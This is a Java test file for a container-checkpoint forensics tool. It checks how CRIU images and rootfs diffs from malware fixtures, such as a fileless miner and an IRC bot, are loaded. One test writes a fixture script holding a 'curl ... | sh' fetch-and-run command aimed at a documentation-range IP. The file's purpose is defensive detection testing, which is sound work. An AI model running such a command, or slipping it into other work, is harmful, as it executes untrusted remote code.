package dev.stasis.analysis.load;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.stasis.analysis.Fixtures;
import dev.stasis.analysis.Progress;
import dev.stasis.analysis.TestData;
import dev.stasis.analysis.subject.DiffFile;
import dev.stasis.analysis.subject.MountPoint;
import dev.stasis.analysis.subject.Subject;
import dev.stasis.checkpoint.criu.DirectoryImageSource;
import dev.stasis.checkpoint.criu.ImageEntry;
import dev.stasis.checkpoint.criu.ImageType;
import dev.stasis.checkpoint.criu.ImageWriter;
import dev.stasis.checkpoint.criu.images.TcpStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveInputStream;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The subject built from real checkpoints, checked against crit's decoding and against the
 * archives' members read here with commons-compress, never against the loader's own output.
 */
class CheckpointSubjectsTest {
    private static final String MINER = "fileless-miner.tar.gz";
    private static final int PE_PRESENT = 1 << 2; // CRIU's pagemap flag for pages stored in the pages image
    private static final int PAGE = 4096;

    private static Subject load(Path path) {
        try (CheckpointSubjects.Loaded loaded = CheckpointSubjects.load(path, Progress.NONE)) {
            return loaded.subject();
        }
    }

    private static DiffFile recovered(Subject s, String origin) {
        return s.recovered().stream().filter(f -> f.origin().equals(origin)).findFirst().orElseThrow();
    }

    @Test
    void ghostFileIsRecoveredAsCritDecodesIt() {
        JsonNode ghost = Fixtures.crit(MINER, "ghost-file-1.img").path("entries");
        JsonNode head = ghost.get(0);
        ByteArrayOutputStream content = new ByteArrayOutputStream();
        for (int i = 1; i < ghost.size(); i++) content.writeBytes(Base64.getMimeDecoder().decode(ghost.get(i).path("extra").asText()));
        long origId = Fixtures.crit(MINER, "remap-fpath.img").path("entries").get(0).path("orig_id").asLong();
        String path = null;
        for (JsonNode f : Fixtures.crit(MINER, "files.img").path("entries")) {
            if (f.path("id").asLong() == origId) path = f.path("reg").path("name").asText();
        }

        DiffFile f = recovered(load(TestData.checkpoint(MINER)), "ghost-file");

        assertThat(f.path()).isEqualTo(path);
        assertThat(f.size()).isEqualTo(head.path("size").asLong()).isEqualTo(content.size());
        assertThat(f.sha256()).isEqualTo(Fixtures.sha256(content.toByteArray()));
        assertThat(f.head()).isEqualTo(content.toByteArray()); // smaller than the head limit: all of it
        assertThat(f.mode()).isEqualTo(head.path("mode").asInt());
        assertThat(f.modified()).isEqualTo(Instant.ofEpochSecond(head.path("mtim").path("tv_sec").asLong(),
                head.path("mtim").path("tv_usec").asLong() * 1000));
    }

    @Test
    void memfdIsRecoveredFromItsSharedMemoryPages() throws IOException {
        JsonNode inode = Fixtures.crit(MINER, "memfd.img").path("entries").get(0);
        long size = inode.path("size").asLong();
        JsonNode pagemap = Fixtures.crit(MINER, "pagemap-shmem-" + inode.path("shmid").asLong() + ".img").path("entries");
        byte[] pages = Fixtures.member(MINER, "checkpoint/pages-" + pagemap.get(0).path("pages_id").asInt() + ".img");
        byte[] expected = new byte[(int) size]; // holes read as zeros
        int stored = 0;
        for (int i = 1; i < pagemap.size(); i++) {
            JsonNode run = pagemap.get(i);
            int bytes = run.path("nr_pages").asInt() * PAGE;
            if ((run.path("flags").asInt() & PE_PRESENT) == 0) continue;
            int at = run.path("vaddr").asInt();
            System.arraycopy(pages, stored, expected, at, (int) Math.max(0, Math.min(bytes, size - at)));
            stored += bytes;
        }

        DiffFile f = recovered(load(TestData.checkpoint(MINER)), "memfd");

        assertThat(f.path()).isEqualTo("/memfd:" + inode.path("name").asText());
        assertThat(f.size()).isEqualTo(size);
        assertThat(f.mode()).isEqualTo(inode.path("mode").asInt());
        assertThat(f.sha256()).isEqualTo(Fixtures.sha256(expected));
        assertThat(f.head()).isEqualTo(Arrays.copyOf(expected, DiffFile.HEAD_LIMIT));
    }

    @Test
    void rootfsDiffFilesCarryTheirDigestAndFirstBytes() throws IOException {
        byte[] diffTar = Fixtures.member("irc-bot.tar.zst", "rootfs-diff.tar");
        Map<String, byte[]> files = new HashMap<>();
        try (TarArchiveInputStream tar = new TarArchiveInputStream(new java.io.ByteArrayInputStream(diffTar))) {
            TarArchiveEntry e;
            while ((e = tar.getNextEntry()) != null) {
                if (e.isFile() && !e.isLink() && !e.isSymbolicLink()) files.put("/" + e.getName().replaceFirst("^\\./", ""), tar.readAllBytes());
            }
        }
        assertThat(files).containsKey("/tmp/perlbot.pl");

        List<DiffFile> diff = load(TestData.checkpoint("irc-bot.tar.zst")).rootfsDiff();

        List<DiffFile> regular = diff.stream().filter(DiffFile::isRegular).toList();
        assertThat(regular).extracting(DiffFile::path).containsExactlyInAnyOrderElementsOf(files.keySet());
        for (DiffFile f : regular) {
            byte[] content = files.get(f.path());
            assertThat(f.sha256()).as(f.path()).isEqualTo(Fixtures.sha256(content));
            assertThat(f.size()).as(f.path()).isEqualTo(content.length);
            assertThat(f.head()).as(f.path()).isEqualTo(Arrays.copyOf(content, Math.min(content.length, DiffFile.HEAD_LIMIT)));
        }
        assertThat(diff).extracting(DiffFile::path).doesNotContain("/").allMatch(p -> !p.contains(".."));
    }

    @Test
    void containerdWhiteoutsAreDeletionsAndGzipDiffsAreRead(@TempDir Path dir) throws IOException {
        Fixtures.unpack("benign-web.tar.zst", dir);
        byte[] script = "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n".getBytes(StandardCharsets.US_ASCII);
        try (OutputStream out = Files.newOutputStream(dir.resolve("rootfs-diff.tar"));
             TarArchiveOutputStream tar = new TarArchiveOutputStream(new GzipCompressorOutputStream(out))) {
            directory(tar, "./");
            file(tar, "./etc/.wh.passwd-", new byte[0], 0644);
            file(tar, "./var/log/.wh..wh..opq", new byte[0], 0644);
            file(tar, "./tmp/new.sh", script, 0755);
            TarArchiveEntry link = new TarArchiveEntry("./tmp/run", TarArchiveEntry.LF_SYMLINK);
            link.setLinkName("/tmp/new.sh");
            tar.putArchiveEntry(link);
            tar.closeArchiveEntry();
        }
        List<String> engineDeleted = new ArrayList<>();
        if (Files.exists(dir.resolve("deleted.files"))) {
            new ObjectMapper().readTree(dir.resolve("deleted.files").toFile()).forEach(n -> engineDeleted.add(n.asText()));
        }

        Subject s = load(dir);

        List<String> expectedDeleted = new ArrayList<>(List.of("/etc/passwd-"));
        expectedDeleted.addAll(engineDeleted);
        assertThat(s.deletedFiles()).containsExactlyElementsOf(expectedDeleted);
        assertThat(s.rootfsDiff()).extracting(DiffFile::path).containsExactly("/tmp/new.sh", "/tmp/run");
        DiffFile added = s.rootfsDiff().get(0);
        assertThat(added.sha256()).isEqualTo(Fixtures.sha256(script));
        assertThat(added.head()).isEqualTo(script);
        assertThat(added.executable()).isTrue();
        assertThat(s.rootfsDiff().get(1).type()).isEqualTo("symlink");
        assertThat(s.rootfsDiff().get(1).linkTarget()).isEqualTo("/tmp/new.sh");
    }

    @Test
    void oneDamagedMemoryImageCostsOnlyItsOwnProcess(@TempDir Path dir) throws IOException {
        Fixtures.unpack("irc-bot.tar.zst", dir);
        // tini's mm image cut inside its first entry: a damaged image of pid 1 only
        Path mm = dir.resolve("checkpoint/mm-1.img");
        byte[] b = Files.readAllBytes(mm);
        Files.write(mm, Arrays.copyOf(b, 20));

        Subject s = load(dir);

        assertThat(s.notices()).anyMatch(n -> n.startsWith("process 1: ") && n.endsWith("its memory is left out: memory-based detections skipped for it"));
        assertThat(s.notices()).noneMatch(n -> n.startsWith("process memory could not be read"));
        // the bot's memory is still read: its resident pages and the PRIVMSG lines in its heap
        assertThat(s.memory().residentBytes(17)).isPositive();
        assertThat(s.memory().search(17, java.util.regex.Pattern.compile("PRIVMSG #c2"), 5)).isNotEmpty();
        assertThat(s.memory().residentBytes(1)).isZero();
    }

    @Test
    void aCheckpointWithoutSpecIsAnalysedWithANotice(@TempDir Path dir) throws IOException {
        Fixtures.unpack("benign-web.tar.zst", dir);
        Files.delete(dir.resolve("spec.dump"));

        Subject s = load(dir);

        assertThat(s.notices()).contains("spec.dump missing: mounts, capabilities and privileges not checked");
        assertThat(s.spec().mounts()).isEmpty();
        assertThat(s.processes()).isNotEmpty();
    }

    @Test
    void specMountsAndCapabilitiesAreTheSpecDumps() throws IOException {
        JsonNode spec = new ObjectMapper().readTree(Fixtures.member(MINER, "spec.dump"));
        List<String> destinations = new ArrayList<>();
        spec.path("mounts").forEach(m -> destinations.add(m.path("destination").asText()));
        List<String> effective = new ArrayList<>();
        spec.path("process").path("capabilities").path("effective").forEach(c -> effective.add(c.asText()));

        Subject s = load(TestData.checkpoint(MINER));

        assertThat(s.spec().mounts()).extracting(MountPoint::destination).containsExactlyElementsOf(destinations);
        MountPoint socket = s.spec().mounts().stream().filter(m -> m.destination().equals("/var/run/docker.sock")).findFirst().orElseThrow();
        assertThat(socket.isBind()).isTrue();
        assertThat(s.spec().capabilities()).containsExactlyElementsOf(effective).contains("CAP_SYS_PTRACE");
    }

    private static void directory(TarArchiveOutputStream tar, String name) throws IOException {
        tar.putArchiveEntry(new TarArchiveEntry(name));
        tar.closeArchiveEntry();
    }

    private static void file(TarArchiveOutputStream tar, String name, byte[] data, int mode) throws IOException {
        TarArchiveEntry e = new TarArchiveEntry(name);
        e.setSize(data.length);
        e.setMode(0100000 | mode);
        tar.putArchiveEntry(e);
        tar.write(data);
        tar.closeArchiveEntry();
    }
}
